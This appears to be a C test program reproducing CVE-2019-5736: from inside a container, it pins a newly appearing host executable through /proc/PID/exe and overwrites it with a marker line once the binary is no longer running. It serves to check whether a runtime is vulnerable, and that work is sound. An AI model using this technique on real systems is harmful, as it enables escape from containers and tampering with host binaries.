/* SPDX-License-Identifier: Apache-2.0 */
/*
 * CVE-2019-5736: waits in a container for a process that was not there, pins its executable through /proc/PID/exe,
 * and opens it for writing as soon as nobody runs it any more. What it gets is overwritten with one line.
 * exe_writer READY UNTIL: makes READY when it waits, ends with 1 when there is UNTIL, with 0 after it has written.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define PINNED_MAX 256

static struct stat own[PINNED_MAX];
static size_t own_length;
static int pinned[PINNED_MAX];
static size_t pinned_length;

static bool is_known(const struct stat *st)
{
	for (size_t i = 0; i < own_length; i++)
		if (own[i].st_dev == st->st_dev && own[i].st_ino == st->st_ino)
			return true;
	return false;
}

/* The executables of all processes: `learn` those that belong here, else pin what is new. */
static void look(bool learn)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc))) {
		char path[300];
		struct stat st;
		int fd;

		if (!isdigit((unsigned char)entry->d_name[0]))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0 && fstat(fd, &st) == 0 && !is_known(&st) && own_length < PINNED_MAX) {
			own[own_length++] = st;
			if (!learn) {
				pinned[pinned_length++] = fd;
				continue;
			}
		}
		if (fd >= 0)
			close(fd);
	}
	if (proc)
		closedir(proc);
}

static bool overwrite(int fd)
{
	static const char line[] = "#!/bin/overwritten\n";
	char path[64];
	int writable;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	writable = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	if (writable < 0)
		return false;
	if (write(writable, line, sizeof(line) - 1) < 0)
		perror("exe_writer");
	close(writable);
	return true;
}

int main(int argc, char *argv[])
{
	struct stat st;

	if (argc != 3) {
		fputs("usage: exe_writer READY UNTIL\n", stderr);
		return 2;
	}
	/* What the image has itself is no prize. */
	if (stat("/bin/busybox", &st) == 0)
		own[own_length++] = st;
	look(true);
	close(open(argv[1], O_WRONLY | O_CREAT, 0644));
	while (access(argv[2], F_OK) < 0) {
		look(false);
		for (size_t i = 0; i < pinned_length; i++) {
			if (!overwrite(pinned[i]))
				continue;
			puts("overwritten");
			return 0;
		}
	}
	printf("pinned %zu, wrote to none\n", pinned_length);
	return 1;
}
